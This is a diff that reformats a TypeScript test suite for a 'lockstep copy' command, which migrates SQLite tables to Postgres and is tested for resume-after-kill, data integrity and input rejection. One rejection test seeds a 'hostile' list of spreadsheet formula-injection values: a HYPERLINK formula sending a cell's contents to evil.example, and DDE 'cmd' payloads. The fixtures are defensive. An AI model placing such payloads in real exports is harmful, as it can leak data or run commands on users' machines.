@@ -14,7 +14,12 @@ const BIN = join(import.meta.dirname, '..', 'bin', 'lockstep.mjs')
 
 function lockstep(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
   return new Promise((resolve) => {
-    execFile(process.execPath, [BIN, ...args], { env: childEnv({ DATABASE_URL: '' }), cwd: tmpdir(), maxBuffer: 10 * 1024 * 1024 }, (error, stdout, stderr) => resolve({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }))
+    execFile(
+      process.execPath,
+      [BIN, ...args],
+      { env: childEnv({ DATABASE_URL: '' }), cwd: tmpdir(), maxBuffer: 10 * 1024 * 1024 },
+      (error, stdout, stderr) => resolve({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }),
+    )
   })
 }
 
@@ -58,10 +63,13 @@ describe('lockstep copy', () => {
     const dir = await mkdtemp(join(tmpdir(), 'lockstep-copy-cli-'))
     const file = join(dir, 'events.db')
     const db = new Database(file)
-    db.exec(`CREATE TABLE events (id INTEGER PRIMARY KEY, kind TEXT NOT NULL, payload TEXT, at DATETIME); CREATE TABLE tags (name TEXT, weight REAL)`)
+    db.exec(
+      `CREATE TABLE events (id INTEGER PRIMARY KEY, kind TEXT NOT NULL, payload TEXT, at DATETIME); CREATE TABLE tags (name TEXT, weight REAL)`,
+    )
     db.transaction(() => {
       const insert = db.prepare('INSERT INTO events (kind, payload, at) VALUES (?, ?, ?)')
-      for (let i = 0; i < 120_000; i++) insert.run(`kind ${i % 13}`, i % 5 ? `payload\t${i}\n${'x'.repeat(i % 40)}` : null, 1_700_000_000_000 + i)
+      for (let i = 0; i < 120_000; i++)
+        insert.run(`kind ${i % 13}`, i % 5 ? `payload\t${i}\n${'x'.repeat(i % 40)}` : null, 1_700_000_000_000 + i)
       const tag = db.prepare('INSERT INTO tags VALUES (?, ?)')
       for (let i = 0; i < 5_000; i++) tag.run(`tag ${i % 100}`, i / 7) // no primary key: read in rowid ranges
     })()
@@ -73,7 +81,10 @@ describe('lockstep copy', () => {
     // Kill it once some chunks have committed – well before the end.
     for (let i = 0; i < 600; i++) {
       await new Promise((r) => setTimeout(r, 50))
-      const rows = await query<{ n: number }>(url, `SELECT coalesce(sum(rows_written), 0)::int AS n FROM lockstep.copy_part`).catch(() => [{ n: 0 }])
+      const rows = await query<{ n: number }>(
+        url,
+        `SELECT coalesce(sum(rows_written), 0)::int AS n FROM lockstep.copy_part`,
+      ).catch(() => [{ n: 0 }])
       if ((rows[0]?.n ?? 0) >= 10_000) break
     }
     child.kill('SIGKILL')
@@ -84,22 +95,48 @@ describe('lockstep copy', () => {
 
     const again = await lockstep([...args, '--json'])
     expect(again.code, again.stderr).toBe(0)
-    const summary = JSON.parse(again.stdout) as { status: string; tables: { table: string; written: number }[]; peakRssMb: number }
+    const summary = JSON.parse(again.stdout) as {
+      status: string
+      tables: { table: string; written: number }[]
+      peakRssMb: number
+    }
     expect(summary.status).toBe('SUCCEEDED')
     expect(summary.tables.map((t) => [t.table, t.written])).toEqual([
       ['events', 120_000],
       ['tags', 5_000],
     ])
     // Exactly the source rows: every id once, the same content.
-    const [events] = await query<{ n: number; ids: number; sum: string; hash: string }>(url, `SELECT count(*)::int AS n, count(DISTINCT id)::int AS ids, sum(id)::text AS sum, md5(string_agg(kind || coalesce(payload, '∅') || (extract(epoch FROM at) * 1000)::bigint, '|' ORDER BY id)) AS hash FROM events`)
+    const [events] = await query<{ n: number; ids: number; sum: string; hash: string }>(
+      url,
+      `SELECT count(*)::int AS n, count(DISTINCT id)::int AS ids, sum(id)::text AS sum, md5(string_agg(kind || coalesce(payload, '∅') || (extract(epoch FROM at) * 1000)::bigint, '|' ORDER BY id)) AS hash FROM events`,
+    )
     const source = new Database(file, { readonly: true })
-    const expected = source.prepare(`SELECT count(*) AS n, sum(id) AS sum FROM events`).get() as { n: number; sum: number }
-    const text = (source.prepare(`SELECT kind || coalesce(payload, '∅') || at AS t FROM events ORDER BY id`).pluck().all() as string[]).join('|')
-    const [tags] = await query<{ n: number; w: string }>(url, `SELECT count(*)::int AS n, sum(weight)::text AS w FROM tags`)
-    const expectedTags = source.prepare(`SELECT count(*) AS n, sum(weight) AS w FROM tags`).get() as { n: number; w: number }
+    const expected = source.prepare(`SELECT count(*) AS n, sum(id) AS sum FROM events`).get() as {
+      n: number
+      sum: number
+    }
+    const text = (
+      source
+        .prepare(`SELECT kind || coalesce(payload, '∅') || at AS t FROM events ORDER BY id`)
+        .pluck()
+        .all() as string[]
+    ).join('|')
+    const [tags] = await query<{ n: number; w: string }>(
+      url,
+      `SELECT count(*)::int AS n, sum(weight)::text AS w FROM tags`,
+    )
+    const expectedTags = source.prepare(`SELECT count(*) AS n, sum(weight) AS w FROM tags`).get() as {
+      n: number
+      w: number
+    }
     source.close()
     const { createHash } = await import('node:crypto')
-    expect(events).toEqual({ n: expected.n, ids: expected.n, sum: String(expected.sum), hash: createHash('md5').update(text).digest('hex') })
+    expect(events).toEqual({
+      n: expected.n,
+      ids: expected.n,
+      sum: String(expected.sum),
+      hash: createHash('md5').update(text).digest('hex'),
+    })
     expect(tags?.n).toBe(expectedTags.n)
     expect(Number(tags?.w)).toBeCloseTo(expectedTags.w, 6)
 
@@ -113,8 +150,18 @@ describe('lockstep copy', () => {
     const dir = await mkdtemp(join(tmpdir(), 'lockstep-copy-rejects-'))
     const file = join(dir, 'people.db')
     const db = new Database(file)
-    db.exec('CREATE TABLE people (id INTEGER PRIMARY KEY, age INTEGER); CREATE TRIGGER people_touch AFTER UPDATE ON people BEGIN SELECT 1; END')
-    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1', 'forty']
+    db.exec(
+      'CREATE TABLE people (id INTEGER PRIMARY KEY, age INTEGER); CREATE TRIGGER people_touch AFTER UPDATE ON people BEGIN SELECT 1; END',
+    )
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"x")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(1+1)',
+      '\t=1+1',
+      '\r=1+1',
+      'forty',
+    ]
     const insert = db.prepare('INSERT INTO people (id, age) VALUES (?, ?)')
     hostile.forEach((value, i) => insert.run(i + 1, value))
     insert.run(100, 42)
@@ -145,7 +192,10 @@ describe('lockstep copy', () => {
 
   it('refuses bad input with a clear message and changes nothing', async () => {
     const dir = await mkdtemp(join(tmpdir(), 'lockstep-copy-bad-'))
-    await writeFile(join(dir, 'notes.db'), 'this is not a database at all, just text that is long enough to have a header')
+    await writeFile(
+      join(dir, 'notes.db'),
+      'this is not a database at all, just text that is long enough to have a header',
+    )
     const url = `${await createFreshDatabase('copy_bad', { migrate: false })}?sslmode=disable`
     const notSqlite = await lockstep(['copy', '--from', join(dir, 'notes.db'), '--to', url])
     expect(notSqlite.code).toBe(1)
@@ -161,6 +211,8 @@ describe('lockstep copy', () => {
     const unknown = await lockstep(['copy', '--from', join(dir, 'one.db'), '--to', url, '--tables', 'a,zzz'])
     expect(unknown.code).toBe(1)
     expect(unknown.stderr).toContain('The source has no table “zzz”')
-    expect(await query(url, `SELECT to_regclass('a')::text AS a, to_regclass('lockstep.copy')::text AS copy`)).toEqual([{ a: null, copy: null }])
+    expect(await query(url, `SELECT to_regclass('a')::text AS a, to_regclass('lockstep.copy')::text AS copy`)).toEqual([
+      { a: null, copy: null },
+    ])
   }, 60_000)
 })
